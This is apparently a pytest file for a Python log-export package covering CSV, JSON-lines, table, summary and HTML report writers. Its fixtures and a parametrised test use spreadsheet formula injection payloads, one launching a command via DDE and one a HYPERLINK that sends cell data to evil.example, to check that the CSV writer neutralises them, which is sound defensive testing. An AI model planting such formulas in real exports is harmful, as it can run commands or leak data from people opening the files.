# -*- coding: utf-8 -*-
"""Log writers: CSV and JSON lines round trips, the table, the summary and the HTML report."""

from __future__ import unicode_literals

import csv
import io
import json
import os
import sys
import xml.etree.ElementTree as ET

import pytest

from agsadmin_core.logs import LogRecord
from agsadmin_core.logwriters import FIELDS, CsvWriter, JsonLinesWriter, LogSummary, \
    TableWriter, format_summary, report, summary, write_records

from .logfake import make_record

T0 = 1796025600000  # 2026-11-30T08:00:00Z
HOUR = 3600000
SVG = "{http://www.w3.org/2000/svg}"
XHTML = "{http://www.w3.org/1999/xhtml}"


def awkward_records():
    raw = [
        make_record(T0 + 5, type="SEVERE", code=9511, source="System/PublishingTools.GPServer",
                    elapsed="60.013", message='Unable to process, "quoted", and\nsplit'),
        make_record(T0 + 4, type="WARNING", code=7001, machine="GIS2",
                    message="Ünïcode ✓ and emoji \U0001F600, <b>not bold</b> & more"),
        make_record(T0 + 3, type="INFO", code=8259, elapsed="",
                    message="Control \x01\x07 chars and a lone \ud800 surrogate"),
        make_record(T0 - 2 * HOUR, type="FINE", code=100004, elapsed="0.5",
                    message="=cmd|' /C calc'!A0"),
    ]
    return [LogRecord.from_json(r) for r in raw]


def read_csv(path):
    with open(path, "rb") as handle:
        data = handle.read()
    assert data.startswith(b"\xef\xbb\xbf")
    if sys.version_info[0] == 2:  # the 2.7 csv module reads bytes
        rows = csv.reader(io.BytesIO(data[3:]))
        return [[cell.decode("utf-8") for cell in row] for row in rows]
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def test_csv_round_trip(tmp_path):
    records = awkward_records()
    path = str(tmp_path / "logs.csv")
    assert write_records(records, CsvWriter(path)) == 4
    rows = read_csv(path)
    assert rows[0] == list(FIELDS)
    assert len(rows) == 5
    first = dict(zip(FIELDS, rows[1]))
    assert first["time"] == "2026-11-30 08:00:00.005"
    assert first["message"] == 'Unable to process, "quoted", and\nsplit'
    assert first["elapsed"] == "60.013" and first["code"] == "9511"
    assert rows[2][FIELDS.index("message")] == records[1].message
    assert rows[3][FIELDS.index("elapsed")] == ""
    assert rows[4][FIELDS.index("time")] == "2026-11-30 06:00:00.000"


def test_jsonl_round_trip(tmp_path):
    records = awkward_records()
    path = str(tmp_path / "logs.jsonl")
    write_records(records, JsonLinesWriter(path))
    with io.open(path, encoding="utf-8") as handle:
        lines = [json.loads(line) for line in handle]
    assert len(lines) == 4
    assert lines[0]["time"] == "2026-11-30T08:00:00.005Z" and lines[0]["time_ms"] == T0 + 5
    assert lines[0]["code"] == 9511 and lines[0]["elapsed"] == 60.013
    assert lines[1]["message"] == records[1].message
    assert lines[2]["elapsed"] is None
    assert set(lines[0]) == set(FIELDS) | {"time_ms"}


def test_table(tmp_path):
    out = io.StringIO()
    write_records(awkward_records(), TableWriter(out, width=100, source_width=20))
    lines = out.getvalue().splitlines()
    assert lines[0].startswith("TIME (UTC)")
    assert "System/PublishingTo~" in lines[1] and '"quoted", and spli' in lines[1]
    assert all(len(line) <= 100 for line in lines)
    assert lines[-1] == "4 records"


def test_writer_is_closed_and_keeps_rows_when_the_records_fail(tmp_path):
    def failing():
        for record in awkward_records()[:2]:
            yield record
        raise RuntimeError("server went away")

    path = str(tmp_path / "part.csv")
    with pytest.raises(RuntimeError):
        write_records(failing(), CsvWriter(path))
    assert len(read_csv(path)) == 3


def test_summary_counts_and_slowest():
    records = []
    for i in range(200):
        records.append(LogRecord.from_json(make_record(
            T0 - i * 60000, type=["SEVERE", "WARNING"][i % 2], code=[9003, 7001, 8259][i % 3],
            source=["Rest", "Admin"][i % 2], machine=["GIS1", "GIS2", "GIS3"][i % 3],
            elapsed=str(i % 50 + i / 1000.0) if i % 4 else "", message="m%d" % i)))
    result = summary(records, slowest=5)
    assert result.total == 200
    assert result.by_level == {"SEVERE": 100, "WARNING": 100}
    assert result.by_code == {9003: 67, 7001: 67, 8259: 66}
    assert result.by_machine == {"GIS1": 67, "GIS2": 67, "GIS3": 66}
    assert sum(sum(v.values()) for v in result.per_hour.values()) == 200
    assert sorted(result.per_hour)[-1] == T0 and len(result.per_hour) == 5
    timed = sorted((r for r in records if r.elapsed is not None), key=lambda r: -r.elapsed)
    assert [r.elapsed for r in result.slowest] == [r.elapsed for r in timed[:5]]
    top = dict((c, (n, ms, m)) for c, n, ms, m in result.top_codes(3))
    assert top[9003] == (67, T0, "m0") and top[7001] == (67, T0 - 60000, "m1")
    assert [c for c, _, _, _ in result.top_codes(3)][2] == 8259
    text = "\n".join(format_summary(result))
    assert "200 records" in text and "SEVERE 100" in text


def test_report_is_xml_with_an_svg_chart(tmp_path):
    records = awkward_records()
    path = str(tmp_path / "report.html")
    result = report(records, path, title="Night of <30 Nov>")
    assert isinstance(result, LogSummary) and result.total == 4
    with open(path, "rb") as handle:
        data = handle.read()
    root = ET.fromstring(data)
    assert root.tag == XHTML + "html"
    svg = root.find(".//" + SVG + "svg")
    assert svg is not None
    assert len(svg.findall(SVG + "rect")) >= 4
    text = data.decode("utf-8")
    assert "<script" not in text and "http://" not in text.replace(
        "http://www.w3.org/1999/xhtml", "").replace("http://www.w3.org/2000/svg", "")
    assert "&lt;b&gt;not bold&lt;/b&gt;" in text and "Night of &lt;30 Nov&gt;" in text
    cells = [e.text for e in root.iter(XHTML + "td")]
    assert "60.013" in cells and "9511" in cells
    assert os.listdir(str(tmp_path)) == ["report.html"]  # the temp file was renamed


def test_report_of_nothing_and_of_a_summary(tmp_path):
    path = str(tmp_path / "empty.html")
    report([], path)
    root = ET.parse(path).getroot()
    assert root.find(".//" + SVG + "svg") is not None
    assert "No records" in open(path, "rb").read().decode("utf-8")
    many = [LogRecord.from_json(make_record(T0 - i * HOUR, type="INFO")) for i in range(24 * 40)]
    report(summary(many), path)  # forty days: one bar per day
    svg = ET.parse(path).getroot().find(".//" + SVG + "svg")
    assert 40 <= len(svg.findall(SVG + "rect")) - 1 <= 41


def test_csv_quotes_any_field_that_needs_it(tmp_path):
    raw = make_record(T0, type="WEIRD,LEVEL", source='Folder/"Odd", name.MapServer',
                      user="line\nbreak", machine="GIS1", message="plain")
    path = str(tmp_path / "odd.csv")
    write_records([LogRecord.from_json(raw)], CsvWriter(path))
    row = dict(zip(FIELDS, read_csv(path)[1]))
    assert row["level"] == "WEIRD,LEVEL" and row["source"] == 'Folder/"Odd", name.MapServer'
    assert row["user"] == "line\nbreak" and row["message"] == "plain"
    assert row["machine"] == "GIS1"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_cells_that_start_a_formula(tmp_path, start):
    attack = start + "HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
    raw = make_record(T0, type="SEVERE", code=6502, user=attack, source=start + "SUM(1)",
                      machine="GIS1", elapsed="-1.5", message=attack)
    path = str(tmp_path / "attack.csv")
    write_records([LogRecord.from_json(raw)], CsvWriter(path))
    row = dict(zip(FIELDS, read_csv(path)[1]))
    assert row["user"] == "'" + attack and row["message"] == "'" + attack
    assert row["source"] == "'" + start + "SUM(1)"
    # Numbers stay numbers, and untouched cells stay as they were.
    assert row["elapsed"] == "-1.5" and row["code"] == "6502" and row["machine"] == "GIS1"
    # JSON lines keep the raw text.
    jpath = str(tmp_path / "attack.jsonl")
    write_records([LogRecord.from_json(raw)], JsonLinesWriter(jpath))
    with io.open(jpath, encoding="utf-8") as handle:
        assert json.loads(handle.readline())["user"] == attack


def test_csv_leaves_harmless_cells_alone(tmp_path):
    raw = make_record(T0, type="INFO", code=8001, user="admin-1", machine="GIS1",
                      message="Started 'Maps/A.MapServer' = ok; -x @y")
    path = str(tmp_path / "plain.csv")
    write_records([LogRecord.from_json(raw)], CsvWriter(path))
    row = dict(zip(FIELDS, read_csv(path)[1]))
    assert row["user"] == "admin-1"
    assert row["message"] == "Started 'Maps/A.MapServer' = ok; -x @y"
